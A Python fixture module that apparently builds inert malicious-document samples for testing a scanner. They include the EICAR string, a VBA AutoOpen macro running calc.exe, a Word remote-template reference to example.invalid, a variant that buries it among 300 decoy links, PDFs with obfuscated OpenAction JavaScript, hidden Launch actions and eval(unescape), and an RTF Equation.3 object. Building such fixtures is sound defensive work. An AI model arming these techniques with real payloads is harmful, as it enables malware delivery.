"""Builders of small, inert documents and archives."""

from __future__ import annotations

import gzip
import io
import struct
import tarfile
import zipfile
import zlib

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
PLAIN = b"A text that says nothing at all.\n" * 20

SECTOR = 512
END = 0xFFFFFFFE
FREE = 0xFFFFFFFF


def archive(members: dict[str, bytes], *, encrypted: bool = False) -> bytes:
    """A ZIP; if ``encrypted``, it only says that it is: the flag is set, the bytes are plain."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for name, content in members.items():
            target.writestr(zipfile.ZipInfo(name, (2020, 2, 3, 4, 5, 6)), content, zipfile.ZIP_DEFLATED)
    data = bytearray(buffer.getvalue())
    for signature, flags_at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(signature)
        while encrypted and at >= 0:
            data[at + flags_at] |= 1
            at = data.find(signature, at + 4)
    return bytes(data)


def zipped(**members: bytes) -> bytes:
    return archive(members)


def tar(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.USTAR_FORMAT) as target:
        for name, content in members.items():
            info = tarfile.TarInfo(name)
            info.size, info.mtime = len(content), 1_600_000_000
            target.addfile(info, io.BytesIO(content))
    return buffer.getvalue()


def gzipped(content: bytes, name: str = "") -> bytes:
    buffer = io.BytesIO()
    with gzip.GzipFile(name, "wb", fileobj=buffer, mtime=1_600_000_000) as target:
        target.write(content)
    return buffer.getvalue()


def compound(streams: dict[str, bytes], root_class: bytes = b"\0" * 16) -> bytes:
    """An OLE compound file of version 3 with all streams in the root; each is padded beyond the mini stream."""
    contents = {name: content.ljust(4096, b"\0") for name, content in streams.items()}
    entries = 1 + len(contents)
    directory_sectors = -(-entries // 4)
    # The table's own sectors come first; each has room for 128 sectors.
    sectors = directory_sectors + sum(-(-len(content) // SECTOR) for content in contents.values())
    tables = -(-sectors // 127)
    table = [0xFFFFFFFD] * tables + [tables + index + 1 for index in range(directory_sectors)]
    table[-1] = END
    places, body = {}, b""
    for name, content in contents.items():
        start = len(table)
        count = -(-len(content) // SECTOR)
        table += [start + index + 1 for index in range(count - 1)] + [END]
        places[name] = start
        body += content.ljust(count * SECTOR, b"\0")

    def entry(name: str, kind: int, start: int, size: int, *, child: int, right: int) -> bytes:
        raw = (name + "\0").encode("utf-16le")
        head = raw.ljust(64, b"\0") + struct.pack("<HBBIII", len(raw), kind, 1, FREE, right, child)
        class_id = root_class if kind == 5 else b"\0" * 16
        return head + class_id + struct.pack("<IQQIQ", 0, 0, 0, start, size)

    names = list(contents)
    directory = entry("Root Entry", 5, END, 0, child=1 if names else FREE, right=FREE)
    for index, name in enumerate(names):
        right = index + 2 if index + 1 < len(names) else FREE
        directory += entry(name, 2, places[name], len(streams[name].ljust(4096, b"\0")), child=FREE, right=right)
    header = bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 16 + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
    header += b"\0" * 6 + struct.pack("<IIIIIIIII", 0, tables, tables, 0, 4096, END, 0, END, 0)
    header += struct.pack("<109I", *range(tables), *[FREE] * (109 - tables))
    allocation = b"".join(struct.pack("<I", value) for value in table).ljust(tables * SECTOR, b"\xff")
    return header + allocation + directory.ljust(directory_sectors * SECTOR, b"\0") + body


def vba_module(source: str) -> bytes:
    """A module's stream: some p-code, then the source in a compressed container of literals ([MS-OVBA] 2.4.1)."""
    text = ('Attribute VB_Name = "ThisDocument"\r\n' + source).encode()
    container = b"\x01"
    for at in range(0, len(text), 3000):
        part = text[at : at + 3000]
        chunk = b"".join(b"\0" + part[index : index + 8] for index in range(0, len(part), 8))
        container += struct.pack("<H", 0xB000 | len(chunk) - 1) + chunk
    return b"\x01\x16\x01\0" + b"\0" * 60 + container


MACRO = 'Sub AutoOpen()\r\n  CreateObject("WScript.Shell").Run "calc.exe"\r\nEnd Sub\r\n'
RELATIONSHIPS = (
    '<?xml version="1.0"?><Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/'
    '2006/relationships/attachedTemplate" Target="http://example.invalid/t.dotm" '
    'TargetMode="External"/></Relationships>'
)


def macro_document() -> bytes:
    return compound({"WordDocument": b"\xec\xa5", "VBA": b"", "ThisDocument": vba_module(MACRO)})


def word_package() -> bytes:
    return archive(
        {
            "[Content_Types].xml": b"<Types/>",
            "word/document.xml": b"<document/>",
            "word/vbaProject.bin": compound({"VBA": b"", "ThisDocument": vba_module(MACRO)}),
            "word/_rels/settings.xml.rels": RELATIONSHIPS.encode(),
        }
    )


def flooded_package() -> bytes:
    """A document whose remote template stands behind 300 harmless references."""
    start, template, rest = RELATIONSHIPS.partition("<Relationship Id")
    images = "".join(
        f'<Relationship Id="i{index}" Type="http://x/image" Target="http://example.invalid/{index}.png" '
        'TargetMode="External"/>'
        for index in range(300)
    )
    return archive(
        {
            "[Content_Types].xml": b"<Types/>",
            "word/document.xml": b"<document/>",
            "word/_rels/document.xml.rels": (start + images + template + rest).encode(),
        }
    )


def pdf() -> bytes:
    hidden = zlib.compress(b"<< /S /Launch /F (x) >>")
    return (
        b"%PDF-1.7\n1 0 obj << /Type /Catalog /OpenAction 2 0 R >> endobj\n"
        b"2 0 obj << /S /J#61vaScript /JS (app.alert\\(1\\)) >> endobj\n"
        b"3 0 obj << /Type /ObjStm /Filter /FlateDecode /Length 99 >> stream\n" + hidden + b"\nendstream endobj\n"
        b"4 0 obj << /Type /EmbeddedFile >> stream\nMZ inert\nendstream endobj\n"
        b"5 0 obj << /S /URI /URI (http://example.invalid/) >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
    )


def form_pdf() -> bytes:
    """An updated file: a script in a form, one in a stream of objects, an attachment in hexadecimal text, an action."""
    objects = b"10 0 11 31 << /S /JavaScript /JS 12 0 R >> << /S /SubmitForm /F (http://example.invalid/s) >>"
    packed = zlib.compress(objects)
    form = zlib.compress(
        b"<template><script contentType='application/x-javascript'>app.alert(&quot;x&quot;)</script></template>"
    )
    script = zlib.compress(b"eval(unescape('%61'))")
    flate = b"/Filter /FlateDecode /Length %d"
    stream = b"%d 0 obj << %s >> stream\n%s\nendstream endobj\n"
    return (
        b"%PDF-1.7\n1 0 obj << /Type /Catalog /Names << /JavaScript 10 0 R >> "
        b"/AcroForm << /XFA [(template) 4 0 R] >> >> endobj\n"
        b"2 0 obj << /Type /Page >> endobj\n3 0 obj << /Title (first) >> endobj\n"
        + stream % (4, flate % len(form), form)
        + stream % (5, b"/Type /ObjStm /N 2 /First 11 " + flate % len(packed), packed)
        + stream % (12, flate % len(script), script)
        + b"6 0 obj << /Type /Filespec /F (old.txt) /UF (\xfe\xff\0a\0.\0t\0x\0t) /EF << /F 7 0 R >> >> endobj\n"
        + stream % (7, b"/Type /EmbeddedFile /Filter [/ASCIIHexDecode]", b"68656c6c6f>")
        + b"trailer << /Root 1 0 R /Info 3 0 R >>\nstartxref\n9\n%%EOF\n3 0 obj << /Title (second) >> endobj\n%%EOF\n"
    )


def rtf() -> bytes:
    equation = b"0105000002000000" + b"0b000000" + b"4571756174696f6e2e3300" + b"00" * 8
    return b"{\\rtf1\\ansi{\\object\\objemb\\objupdate{\\*\\objclass Equation.3}{\\*\\objdata " + equation + b"}}}"
